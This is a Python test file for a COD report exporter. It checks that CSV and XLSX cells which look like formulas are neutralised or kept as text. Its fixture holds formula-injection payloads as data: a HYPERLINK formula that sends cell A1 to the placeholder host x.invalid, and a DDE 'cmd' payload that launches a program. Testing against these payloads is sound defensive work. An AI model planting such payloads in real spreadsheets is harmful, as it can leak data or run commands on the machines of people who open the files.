"""The COD report's files never carry a live formula: a statement's waybill, a platform's order
id or a reason that starts like one (=, +, -, @) is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from api.cod.exports import table, to_csv, to_xlsx
from api.cod.schemas import ReportItem

pytestmark = pytest.mark.pure

EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"mở")'


def _item(**changes: object) -> ReportItem:
    fields: dict[str, object] = {
        "kind": "amount_differs", "carrier": "viettel-post", "waybill": EVIL,
        "order_id": 7, "order_reference": "+cmd|' /C calc'!A0", "shipment_reference": "@SUM(A1)",
        "expected_vnd": 250_000, "collected_vnd": 240_000, "paid_out_vnd": 238_000,
        "fee_vnd": 2_000, "delivered_at": None, "paid_at": None, "statement_id": 1,
        "line_no": 2, "reason": "-2+3",
    }  # fmt: skip
    return ReportItem.model_validate({**fields, **changes})


def test_csv_cells_that_look_like_formulas_are_neutralised() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(table([_item()], [])).decode("utf-8-sig"))))

    record = dict(zip(rows[0], rows[1], strict=True))
    for column in ("waybill", "order_reference", "shipment_reference", "reason"):
        assert record[column].startswith("'"), column
    assert record["expected_vnd"] == "250000"


def test_xlsx_cells_that_look_like_formulas_stay_text() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(table([_item()], [])))).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))

    for column in ("waybill", "order_reference", "shipment_reference", "reason"):
        assert row[column].data_type == "s", column
    assert row["waybill"].value == EVIL
    assert row["expected_vnd"].value == 250_000
